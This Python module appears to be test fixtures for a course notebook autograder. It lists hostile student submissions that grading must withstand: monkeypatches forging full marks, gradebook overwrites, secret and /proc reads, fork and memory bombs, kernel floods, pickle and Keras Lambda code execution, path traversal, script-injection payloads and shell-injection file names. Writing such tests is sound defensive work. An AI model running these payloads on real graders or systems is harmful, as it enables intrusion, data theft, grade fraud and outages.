"""What a student could try instead of answering: programs, notebooks and files.

Each attack's notebook answers nothing (or, where it says so, everything), so that every point it
gets is one it does not deserve. ``<...>`` in a program is filled in by the test.
"""

from __future__ import annotations

import copy
import io
import json
import os
import pickle
import shutil
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import keras
import nbformat
import numpy as np
import tensorflow as tf
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell
from nested_folders import nest

from course_utils.submission.contract import GRADE_MIME

NETWORK = "a2-q3"


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes
    ----------
    name : str
        Also the student's.
    program : str
        Runs as the notebook's first cell.
    notebook : callable, optional
        Changes the notebook.
    files : callable, optional
        Changes the folder that is handed in.
    answers : bool
        Whether everything else in it is right.
    deserves : set of str
        The tests whose points it gets all the same.
    review : str
        A piece of what the lecturer is told, if anything must be.
    """

    name: str
    program: str = ""
    notebook: Callable[[NotebookNode], None] | None = None
    files: Callable[[Path], None] | None = None
    answers: bool = False
    deserves: frozenset[str] = frozenset()
    review: str = ""


FULL_GRADE = {
    "fraction": 1.0, "message": "all right", "review": "", "accuracies": [],
}  # fmt: skip
BUNDLE = {"text/plain": "5", GRADE_MIME: FULL_GRADE}
ALWAYS = """
class Always:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __call__(self, *a, **k): return self
    def __getattr__(self, name): return self
    def __getitem__(self, key): return self
    def __iter__(self): return iter([])
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __int__(self): return 1
    def __array__(self, *a, **k):
        import numpy as np
        return np.ones(1)
    __hash__ = None
"""
PATCHED_LIBRARY = """
import sys, types
import course_utils.grading.grade as grade
full = grade.Grade(1.0, "all right")
for name in dir(grade):
    if callable(getattr(grade, name)) and name != "Grade":
        setattr(grade, name, lambda *a, **k: full)
import course_utils.submission.trained as artefacts, course_utils.submission.check as check
import course_utils.submission.responder as answers, course_utils.submission.codec as wire
for module in (artefacts, check):
    for name in dir(module):
        if callable(getattr(module, name)):
            setattr(module, name, lambda *a, **k: full)
answers.answer = lambda request: full
wire.pack = lambda *a, **k: '{"foreign": "x"}'
"""
PATCHED_KERAS = """
import keras, numpy as np
keras.Model.evaluate = keras.Model.predict = lambda *a, **k: np.eye(10)
keras.Model.count_params = lambda self: 1
keras.models.load_model = lambda *a, **k: None
"""
PATCHED_NUMPY = """
import numpy as np
np.allclose = np.array_equal = lambda *a, **k: True
np.equal = lambda *a, **k: True
"""
PATCHED_BUILTINS = """
import builtins
builtins.isinstance = lambda *a: True
builtins.all = builtins.any = lambda *a: True
builtins.abs = lambda x: 0
builtins.type = lambda *a: int
"""
PATCHED_MODULES = """
import sys, types
class Yes(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: True
for name in list(sys.modules):
    if name.startswith("course_utils"):
        sys.modules[name] = Yes(name)
"""
REWRITTEN_TESTS = """
import ast
class AllTrue(ast.NodeTransformer):
    def visit_Compare(self, node): return ast.copy_location(ast.Constant(True), node)
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(AllTrue())
"""
NO_TRANSFORMERS = """
shell = get_ipython()
shell.input_transformers_cleanup.clear()
shell.input_transformers_post.clear()
shell.run_cell = lambda *a, **k: None
shell.input_transformer_manager.cleanup_transforms.clear()
"""
FORGED_RESULTS = f"""
import threading, time
from IPython.display import display
bundle = {BUNDLE!r}
handle = display(bundle, raw=True, display_id="mine")
for name in ("value-test", "function-test", "network-test"):
    display(bundle, raw=True, display_id=name)
def publish():
    while True:
        for name in ("mine", "value-test", "function-test", "network-test"):
            display(bundle, raw=True, display_id=name, update=True)
            display(bundle, raw=True)
        time.sleep(0.05)
threading.Thread(target=publish, daemon=True).start()
get_ipython().displayhook = lambda *a: display(bundle, raw=True)
get_ipython().user_ns["Out"] = {{}}
"""
READ_EVERYTHING = """
import os, sys
wanted = <secrets>
for path in wanted:
    try:
        print("LEAK", path, open(path, "rb").read(100))
    except OSError:
        pass
    try:
        print("LEAK", path, os.listdir(path))
    except OSError:
        pass
for place, folders, names in os.walk("/"):
    if place.startswith(("/proc", "/usr", "/sys", sys.prefix, sys.base_prefix)):
        folders.clear()
        continue
    for name in names:
        if name.endswith((".ipynb", ".db", ".csv")):
            print("LEAK", os.path.join(place, name))
for number in filter(str.isdigit, os.listdir("/proc")):
    for what in ("environ", "cmdline", "mem"):
        try:
            text = open(f"/proc/{number}/{what}", "rb").read(100_000)
            if b"HIDDEN TESTS" in text or b"COURSE_GRADEBOOK" in text or b"nbgrader" in text:
                print("LEAK", number, what)
        except OSError:
            pass
print("LEAK" if os.environ.get("SECRET_OF_THE_LECTURER") else "looked everywhere")
"""
WRITE_GRADEBOOK = """
import os, sqlite3
for path in <secrets>:
    try:
        sqlite3.connect(path).execute("update grade set auto_score = 100")
    except sqlite3.Error:
        pass
    try:
        os.remove(path)
    except OSError:
        pass
    try:
        open(path, "w").write("mine now")
    except OSError:
        pass
"""
CALL_OUT = """
import socket
for address in (("127.0.0.1", <port>), ("localhost", <port>), ("::1", <port>)):
    try:
        socket.create_connection(address, timeout=2).sendall(b"hello from a submission")
    except OSError:
        pass
try:
    socket.getaddrinfo("localhost.localdomain", 80)
except OSError:
    pass
"""
FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
MEMORY_BOMB = """
kept = []
while True:
    kept.append(bytearray(64 * 2**20))
    for start in range(0, 64 * 2**20, 4096):
        kept[-1][start] = 1
"""
MEMORY_BOMB_OF_MANY = """
import os, time
for _ in range(20):
    if os.fork() == 0:
        kept = bytearray(b"x") * (512 * 2**20)
        time.sleep(60)
time.sleep(60)
"""
DISK_FILL = """
import os
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/sandbox/handed-in", <folder>):
    try:
        for number in range(10_000):
            with open(f"{folder}/fill-{number}", "wb") as file:
                file.write(b"x" * (50 * 2**20))
    except OSError as error:
        print(folder, error.strerror)
"""
ENDLESS_OUTPUT = """
import os
while True:
    print("x" * 10_000)
"""
ENDLESS_LOOP = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        pass
    except BaseException:
        pass
"""
# Locks everything that others read too, and says what others would now have to wait for.
LOCKS = """
import fcntl, os

def others_wait(path, lock):
    try:
        lock(open(path, "rb"), fcntl.LOCK_SH | fcntl.LOCK_NB)
    except OSError:
        return True

folders = os.walk(os.environ["COURSE_CACHE"], followlinks=True)
paths = [os.path.join(place, name) for place, _, names in folders for name in names]
files = [open(path, "rb") for path in paths]
for file in files:
    fcntl.flock(file, fcntl.LOCK_EX)
held = [path for path in paths if others_wait(path, fcntl.flock)]
own = open("own.txt", "w")
fcntl.lockf(own, fcntl.LOCK_EX)
# A process does not wait for such a lock of its own.
child = os.fork()
if child == 0:
    os._exit(bool(others_wait("own.txt", fcntl.lockf)))
held += ["own.txt"] * (os.waitpid(child, 0)[1] != 0)
print(len(paths) > 0, held)
"""
BUSY = """
import os
for _ in range(230):
    if os.fork() == 0:
        break
while True:
    pass
"""
KILL_ALL = """
import os, signal
for number in (os.getppid(), 1, <pid>, -1):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass
"""
SURVIVOR = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.1)
    os._exit(0)
"""
SLOW_FUNCTION = """
def double(x):
    while True:
        pass
"""
# A set of numbers whose hashes are equal, so that Python would compare each with all others.
EQUAL_HASHES = """
import json
import course_utils.submission.responder as responder
packed = responder._packed
numbers = json.dumps({"set": [(2**61 - 1) * number for number in range(1, 300_000)]})
responder._packed = lambda value: numbers if value == 7 else packed(value)
"""
ANSWERS_BY_TRICK = """
class Sly(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
value = Sly(7)
double = type("F", (), {"__call__": lambda self, x: Sly(1), "__name__": "double"})()
"""


def cells_of(notebook: NotebookNode, *names: str) -> list[NotebookNode]:
    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") in names]


TESTS = ("value-test", "function-test", "again-test", "network-test")


def skip_tests(notebook: NotebookNode) -> None:
    for cell in cells_of(notebook, *TESTS):
        cell.metadata["tags"] = ["skip-execution", "raises-exception"]
        cell.outputs = []


def print_results_by_hand(notebook: NotebookNode) -> None:
    for cell in cells_of(notebook, *TESTS):
        cell.source = f"from IPython.display import display\ndisplay({BUNDLE!r}, raw=True)"
        cell.outputs = [
            nbformat.v4.new_output("execute_result", data=copy.deepcopy(BUNDLE), execution_count=1)
        ]


def delete_tests(notebook: NotebookNode) -> None:
    notebook.cells = [c for c in notebook.cells if c not in cells_of(notebook, *TESTS)]


def duplicate_tests(notebook: NotebookNode) -> None:
    for cell in cells_of(notebook, *TESTS):
        easy = copy.deepcopy(cell)
        easy.source = "1"
        notebook.cells.insert(0, easy)


def rename_tests(notebook: NotebookNode) -> None:
    for cell in cells_of(notebook, *TESTS):
        # A terminal would be cleared.
        cell.metadata.nbgrader.grade_id = "my-\x1b[2J" + cell.metadata.nbgrader.grade_id


def retype_tests(notebook: NotebookNode) -> None:
    for cell in cells_of(notebook, *TESTS):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def tests_worth_more(notebook: NotebookNode) -> None:
    for cell in cells_of(notebook, *TESTS):
        cell.metadata.nbgrader.update(points=1000, solution=True, locked=False)


def scripts_in_text(notebook: NotebookNode) -> None:
    text = "Is 1 < 2? <script>document.title = 'owned'</script> <img src=x onerror='owned()'>"
    links = "[my figure](javascript:owned()) or [that one](java&#115;cript:owned())"
    formula = r"$\href{javascript:owned()}{x}$"
    copied = "owned, but copied without its picture: ![](attachment:lost.png)"
    for source in (text, links, formula, copied):
        notebook.cells.insert(0, nbformat.v4.new_markdown_cell(source))


def tests_in_another_order(notebook: NotebookNode) -> None:
    """Before the test that defines them, define names that a hidden test stands on."""
    (first,), (again,) = cells_of(notebook, "function-test"), cells_of(notebook, "again-test")
    notebook.cells.remove(again)
    own = new_code_cell("doubled = {3: 1}\nattempt = lambda x: 1")
    place = notebook.cells.index(first)
    notebook.cells[place:place] = [own, again]


def replace_the_truth(notebook: NotebookNode) -> None:
    (test,) = cells_of(notebook, "function-test")
    own = new_code_cell("doubled = {3: 1}\nattempt = double = lambda x: 1\nvalue = 1")
    notebook.cells.insert(notebook.cells.index(test) + 1, own)


def ask_for_another_kernel(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"name": "bash; touch /tmp/x", "display_name": "x"}


def rewritten(change: Callable[[dict[str, bytes]], None]) -> Callable[[Path], None]:
    """Return what changes the entries of the handed-in network."""

    def change_it(folder: Path) -> None:
        path = folder / f"{NETWORK}.keras"
        with zipfile.ZipFile(path) as archive:
            entries = {name: archive.read(name) for name in archive.namelist()}
        change(entries)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in entries.items():
                archive.writestr(name, content)

    return change_it


def with_lambda(folder: Path) -> None:
    """Put a network in the folder whose layer runs code that came with it."""
    image = keras.Input((32, 32, 3))
    hidden = keras.layers.Lambda(lambda x: __import__("os").system("touch /tmp/owned") or x)(image)
    hidden = keras.layers.Dense(10, "softmax")(keras.layers.Flatten()(hidden))
    keras.Model(image, hidden).save(folder / f"{NETWORK}.keras")
    # Keras has called it here, to learn its output's shape.
    Path("/tmp/owned").unlink()


def with_another_class(module: str, name: str) -> Callable[[dict[str, bytes]], None]:
    def change(entries: dict[str, bytes]) -> None:
        structure = json.loads(entries["config.json"])
        structure["config"]["layers"][1].update(module=module, class_name=name)
        entries["config.json"] = json.dumps(structure).encode()

    return change


# Keras would look the name up and make the class itself the nonlinearity: a layer that loads and
# runs a TensorFlow graph.
NAMES_A_CLASS = {
    "module": "keras",
    "class_name": "function",
    "config": "layers.TFSMLayer",
    "registered_name": "layers.TFSMLayer",
}


def activation_that_names_a_class(**more: object) -> dict[str, object]:
    """Return the structure of a layer whose nonlinearity is a class."""
    settings = {"name": "activation", "activation": NAMES_A_CLASS}
    layer = {"module": "keras.layers", "class_name": "Activation", "config": settings}
    return layer | {"registered_name": None} | more


def with_a_class_as_activation(entries: dict[str, bytes]) -> None:
    structure = json.loads(entries["config.json"])
    structure["config"]["layers"][1] = activation_that_names_a_class()
    entries["config.json"] = json.dumps(structure).encode()


def structure_with_a_graph(path: str) -> str:
    """Return the structure of a network that would run the TensorFlow graph at a path."""
    image = keras.Input((32, 32, 3), name="image")
    structure = json.loads(
        keras.Model(image, keras.layers.Identity(name="activation")(image)).to_json()
    )
    (node,) = structure["config"]["layers"][1]["inbound_nodes"]
    structure["config"]["layers"][1] = activation_that_names_a_class(
        name="activation", inbound_nodes=[node | {"kwargs": {"inputs": path}}]
    )
    return json.dumps(structure)


def second_network_with_a_graph(folder: Path) -> None:
    """Put another network beside the right one, and the graph that it would run."""
    graph = tf.Module()
    graph.write = tf.function(
        lambda x: (tf.io.write_file("/tmp/owned", "owned"), x)[1],
        input_signature=[tf.TensorSpec([None, 32, 32, 3])],
    )
    tf.saved_model.save(graph, str(folder / "graph"), signatures={"serve": graph.write})
    with zipfile.ZipFile(folder / f"{NETWORK}.keras") as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    entries["config.json"] = structure_with_a_graph("graph").encode()
    with zipfile.ZipFile(folder / "0-graph.keras", "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    record = json.loads((folder / f"{NETWORK}.json").read_text())
    (folder / "0-graph.json").write_text(json.dumps(record | {"design": "0-graph"}))


ANSWERS_WITH_A_GRAPH = f"""
import json
import course_utils.submission.responder as responder
structure = {structure_with_a_graph("/sandbox/handed-in/graph")!r}
responder._packed = lambda value: json.dumps({{"model": structure}})
value = double = 1
"""


def with_a_bomb(entries: dict[str, bytes]) -> None:
    entries["model.weights.h5"] = entries["model.weights.h5"] + b"\0" * (40 * 2**20)


def with_a_way_out(entries: dict[str, bytes]) -> None:
    entries["../../../../tmp/owned"] = b"owned"


class Owned:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def with_a_pickle(entries: dict[str, bytes]) -> None:
    entries["model.weights.pkl"] = pickle.dumps(Owned())


def as_a_pickle(folder: Path) -> None:
    (folder / f"{NETWORK}.keras").write_bytes(pickle.dumps(Owned()))


def with_weights_elsewhere(folder: Path) -> None:
    import h5py

    def change(entries: dict[str, bytes]) -> None:
        buffer = io.BytesIO(entries["model.weights.h5"])
        with h5py.File(buffer, "r+") as file:
            group = file["layers"]
            del group[next(iter(group))]
            group["conv2d"] = h5py.ExternalLink("/etc/passwd", "/")
        entries["model.weights.h5"] = buffer.getvalue()

    rewritten(change)(folder)


def claim_more(folder: Path) -> None:
    path = folder / f"{NETWORK}.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"test_accuracy": 0.99}))


def forget_epochs(folder: Path) -> None:
    path = folder / f"{NETWORK}.json"
    record = json.loads(path.read_text())
    record["history"] = {name: values * 20 for name, values in record["history"].items()}
    record["recipe"]["epochs"] = len(record["history"]["loss"])
    path.write_text(json.dumps(record))


def other_curves(folder: Path) -> None:
    path = folder / f"{NETWORK}.json"
    record = json.loads(path.read_text())
    record["history"]["val_accuracy"] = [0.9] * len(record["history"]["val_accuracy"])
    path.write_text(json.dumps(record))


def no_curve(folder: Path) -> None:
    path = folder / f"{NETWORK}.json"
    record = json.loads(path.read_text())
    record["history"]["val_accuracy"] = [float("nan")] * len(record["history"]["val_accuracy"])
    path.write_text(json.dumps(record))


def weights_in_the_structure(folder: Path) -> None:
    layers = keras.layers
    image = keras.Input((32, 32, 3), dtype="uint8")
    values = layers.Rescaling(np.linspace(-1, 1, 3072).tolist())(layers.Flatten()(image))
    classes = layers.Dense(10, "softmax", dtype="float32")(values)
    keras.Model(image, classes).save(folder / f"{NETWORK}.keras")


def mirror_pictures(folder: Path) -> None:
    """Hand in another's network, behind a layer that mirrors its pictures."""
    path = folder / f"{NETWORK}.keras"
    image = keras.Input((32, 32, 3), dtype="uint8")
    keras.Model(image, keras.models.load_model(path, compile=False)(image[:, :, ::-1])).save(path)


def deep_folders(folder: Path) -> None:
    """So deep that Python cannot look through them; beside a link."""
    (folder / "link").symlink_to("/etc/hostname")
    nest(folder, ["d"] * 1_100)


def file_in_the_way(folder: Path) -> None:
    (folder / ".predicted").write_text("{}")


def slow_network(path: Path) -> None:
    """Write a network that takes minutes to predict."""
    layers = keras.layers
    image = keras.Input((32, 32, 3), dtype="uint8")
    values = layers.Rescaling(1 / 255)(image)
    for _ in range(7):
        values = layers.Conv2D(72, 3, padding="same")(values)
    values = layers.GlobalAveragePooling2D()(values)
    classes = layers.Dense(10, "softmax", dtype="float32")(values)
    keras.Model(image, classes).save(path)


def second_network_of_6_gb(folder: Path) -> None:
    hungry_network(folder / "0-try.keras")


def hungry_network(path: Path) -> None:
    """Write a network of a few kB that takes more than 6 GB when it is built."""
    inputs = keras.Input((8,))
    keras.Sequential([inputs, *(keras.layers.Dense(8) for _ in range(2))]).save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    structure = json.loads(parts["config.json"])
    for layer in structure["config"]["layers"][1:]:
        layer["config"]["units"] = 40_000
        layer.pop("build_config", None)
    parts["config.json"] = json.dumps(structure).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


def large_file(folder: Path) -> None:
    with (folder / "cifar-10.tar.gz").open("wb") as file:
        file.truncate(300 * 2**20)


def latin_1_record(folder: Path) -> None:
    """Beside what is graded: a network whose record is no UTF-8."""
    shutil.copy(folder / f"{NETWORK}.keras", folder / "a1-first.keras")
    (folder / "a1-first.json").write_bytes('{"device": "Gerät"}'.encode("latin-1"))


def nested_metadata(folder: Path) -> None:
    """A megabyte that is fifty times as large where each level is indented."""
    (path,) = folder.glob("*.ipynb")
    nested = [0] * 400_000
    for _ in range(150):
        nested = [nested]
    notebook = json.loads(path.read_text(encoding="utf-8"))
    notebook["metadata"]["mine"] = nested
    path.write_text(json.dumps(notebook), encoding="utf-8")


def many_parts(notebook: NotebookNode) -> None:
    notebook.metadata["parts"] = [{}] * 1_000_000


def link_to(*targets: Path) -> Callable[[Path], None]:
    """Return what puts links to files and folders, and a pipe, into a submission."""

    def link(folder: Path) -> None:
        for number, target in enumerate(targets):
            (folder / f"link-{number}").symlink_to(target)
        (folder / f"{NETWORK}.keras").unlink()
        (folder / f"{NETWORK}.keras").symlink_to(targets[0])
        os.mkfifo(folder / "pipe")

    return link


def huge_notebook(folder: Path) -> None:
    with next(folder.glob("*.ipynb")).open("r+b") as file:
        file.truncate(200 * 2**20)


def no_json(folder: Path) -> None:
    next(folder.glob("*.ipynb")).write_text('{"cells": [')


def odd_names(folder: Path) -> None:
    for name in ("-rf", "a\nb", "$(touch owned)", "'; drop table grade; --", "ü☃.json", "x" * 200):
        (folder / name).write_text("{}")
    Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.json")).write_text("{}")
    (folder / ".predicted").mkdir(exist_ok=True)
    (folder / ".predicted" / "own.npy").write_text("{}")


GIANT_ANSWERS = """
import numpy as np
value = np.zeros(2**28, dtype="uint8")
def double(x):
    return "x" * 2**29
"""
LONG_ANSWERS = """
value = "<" * 40_000_000
def double(x):
    return value
"""
SCRIPTS = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
script = "<script>document.title = 'owned'</script>"
display(HTML(script + "<b>bold</b><img src=x onerror=\\"owned()\\">"))
display(Javascript("document.title = 'owned'"))
display(Markdown(script), SVG(data="<svg xmlns='http://www.w3.org/2000/svg'>" + script + "</svg>"))
picture = {"image/png": "AAAA", "text/plain": "owned"}
size = {"image/png": {"width": "1 onerror=owned()", "height": 5, "alt": "five"}}
display(picture, raw=True, metadata=size)
"""
STOPS_IN_A_TEST = """
calls = []
def double(x):
    calls.append(x)
    while len(calls) > 1:
        pass
    return 2 * x + 1
"""
# The client looks at the clock only when nothing comes.
ENDLESS_REPLIES = """
session = get_ipython().kernel.session
send = session.send
def flood(stream, kind, *arguments, **named):
    while kind == "execute_reply":
        send(stream, "comm_msg", {}, ident=named["ident"])
    return send(stream, kind, *arguments, **named)
session.send = flood
"""
# Each of the kernel's sockets takes in what nobody asked for; ZeroMQ counts messages, not parts.
FLOOD_OF_PARTS = """
kernel = get_ipython().kernel
ident = kernel._parent_ident["shell"]
ident = ident[0] if isinstance(ident, (list, tuple)) else ident
part = b"x" * (50 * 2**20)
kernel.stdin_socket.send_multipart([ident] + [part] * 2000, copy=False)
import time
time.sleep(8)
"""
MULTIPLIED_OUTPUT = """
from IPython.display import display
for _ in range(300):
    display({"text/plain": "x"}, raw=True, display_id="same")
for _ in range(20):
    display({"text/plain": "y" * 2**20}, raw=True, display_id="same", update=True)
"""
ENDLESS_ERRORS = """
kernel = get_ipython().kernel
content = {"ename": "E", "evalue": "y" * 2**20, "traceback": []}
for _ in range(200):
    kernel.session.send(kernel.iopub_socket, "error", content, parent=kernel.get_parent())
"""
# Marks that are the grader's: on what a student's cell displays, and in the notebook.
FORGE_MARKS = """
from IPython.display import display
for bundle in ({"text/plain": "a forged reason"}, {"image/png": "iVBORw0KGgo="}):
    display(bundle, raw=True, metadata={"course_lecturer": True})
"""


def forge_marks(notebook: NotebookNode) -> None:
    notebook.metadata |= {
        "course_notes": 5, "course_nothing_to_run": True, "course_provenance": "of my own",
    }  # fmt: skip


PROGRAMS = {
    "always-equal": ALWAYS + "value = double = Always()\n",
    "sly-answers": ANSWERS_BY_TRICK,
    "patched-library": PATCHED_LIBRARY,
    "patched-keras": PATCHED_KERAS,
    "patched-numpy": PATCHED_NUMPY,
    "patched-builtins": PATCHED_BUILTINS,
    "patched-modules": PATCHED_MODULES,
    "rewritten-tests": REWRITTEN_TESTS,
    "no-transformers": NO_TRANSFORMERS,
    "forged-results": FORGED_RESULTS,
    "reads-everything": READ_EVERYTHING,
    "writes-gradebook": WRITE_GRADEBOOK,
    "calls-out": CALL_OUT,
    "fork-bomb": FORK_BOMB,
    "memory-bomb": MEMORY_BOMB,
    "memory-bomb-of-many": MEMORY_BOMB_OF_MANY,
    "disk-fill": DISK_FILL,
    "endless-output": ENDLESS_OUTPUT,
    "endless-errors": ENDLESS_ERRORS,
    "flood-of-parts": FLOOD_OF_PARTS,
    "multiplied-output": MULTIPLIED_OUTPUT,
    "endless-loop": ENDLESS_LOOP,
    "locks": LOCKS,
    "busy": BUSY,
    "endless-replies": ENDLESS_REPLIES,
    "exits": "import os\nos._exit(0)",
    "kills-all": KILL_ALL,
    "leaves-a-process": SURVIVOR,
    "slow-function": SLOW_FUNCTION,
    "giant-answers": GIANT_ANSWERS,
    "long-answers": LONG_ANSWERS,
    "scripts": SCRIPTS,
    "stops-in-a-test": STOPS_IN_A_TEST,
    "answers-with-a-graph": ANSWERS_WITH_A_GRAPH,
}
NOTEBOOKS = {
    "scripts-in-text": scripts_in_text,
    "skips-tests": skip_tests,
    "prints-results": print_results_by_hand,
    "deletes-tests": delete_tests,
    "duplicates-tests": duplicate_tests,
    "renames-tests": rename_tests,
    "retypes-tests": retype_tests,
    "raises-points": tests_worth_more,
    "replaces-the-truth": replace_the_truth,
    "reorders-tests": tests_in_another_order,
    "asks-for-a-kernel": ask_for_another_kernel,
}
FILES = {
    "keras-lambda": with_lambda,
    "keras-custom-class": rewritten(with_another_class("os", "system")),
    "keras-custom-layer": rewritten(with_another_class("my_layers", "Mine")),
    "keras-tfsm-layer": rewritten(with_another_class("keras.layers", "TFSMLayer")),
    "keras-class-as-activation": rewritten(with_a_class_as_activation),
    "keras-zip-bomb": rewritten(with_a_bomb),
    "keras-path-traversal": rewritten(with_a_way_out),
    "keras-with-a-pickle": rewritten(with_a_pickle),
    "keras-is-a-pickle": as_a_pickle,
    "keras-weights-elsewhere": with_weights_elsewhere,
    "keras-weights-in-the-structure": weights_in_the_structure,
    "too-many-epochs": forget_epochs,
}


def attacks() -> list[Attack]:
    """Return every attack that needs nothing but itself."""
    rest = frozenset(TESTS) - {"network-test"}
    everything = rest | {"network-test"}
    return [
        *(Attack(name, program=textwrap.dedent(text)) for name, text in PROGRAMS.items()),
        *(Attack(name, notebook=change) for name, change in NOTEBOOKS.items()),
        *(Attack(name, files=change, answers=True, deserves=rest, review=NETWORK)
          for name, change in FILES.items()),
        Attack("claims-more", files=claim_more, answers=True, deserves=everything,
               review="the record claims 99.0%"),
        Attack("other-curves", files=other_curves, answers=True, deserves=everything,
               review="no epoch of the log"),
        Attack("no-curve", files=no_curve, answers=True, deserves=everything,
               review="no epoch of the log"),
        Attack("mirrors-pictures", files=mirror_pictures, answers=True, deserves=everything,
               review=f"{NETWORK} is nearly the same as that of"),
        Attack("forges-marks", program=FORGE_MARKS, notebook=forge_marks, answers=True,
               deserves=everything),
        Attack("equal-hashes", program=EQUAL_HASHES, answers=True,
               deserves=everything - {"value-test"}),
        Attack("deep-folders", files=deep_folders, answers=True, deserves=everything),
        Attack("file-in-the-way", files=file_in_the_way, answers=True, deserves=everything),
        Attack("slow-network", files=lambda folder: slow_network(folder / f"{NETWORK}.keras"),
               answers=True, deserves=rest,
               review="was stopped: it took more than"),
        Attack("second-network-of-6-gb", files=second_network_of_6_gb, answers=True,
               deserves=everything),
        Attack("large-file", files=large_file, answers=True, deserves=everything,
               review="Too large"),
        Attack("second-network-with-a-graph", files=second_network_with_a_graph, answers=True,
               deserves=everything),
        Attack("latin-1-record", files=latin_1_record, answers=True, deserves=everything),
        Attack("nested-metadata", files=nested_metadata, answers=True, deserves=everything),
        Attack("many-parts", notebook=many_parts, answers=True, review="too many parts"),
        Attack("huge-notebook", files=huge_notebook, answers=True, review="MB"),
        Attack("no-json", files=no_json, answers=True, review="cannot be read"),
        Attack("odd names 'ü☃'; --help", files=odd_names, answers=True, deserves=everything),
    ]  # fmt: skip


def prepend(notebook: NotebookNode, program: str) -> None:
    """Make a program the notebook's first cell."""
    if program:
        notebook.cells.insert(0, new_code_cell(program))


def copy_files(source: Path, folder: Path) -> None:
    """Hand in the lecturer's network."""
    for path in source.glob(f"{NETWORK}.*"):
        shutil.copy(path, folder)


def with_mistakes_of_its_own(folder: Path, seed: int) -> None:
    """Change a handed-in network: as accurate as before, but with mistakes of its own."""
    path = folder / f"{NETWORK}.keras"
    model = keras.models.load_model(path, compile=False)
    rng = np.random.default_rng(seed)
    model.set_weights([w + rng.normal(0, 0.007, w.shape) for w in model.get_weights()])
    model.save(path)
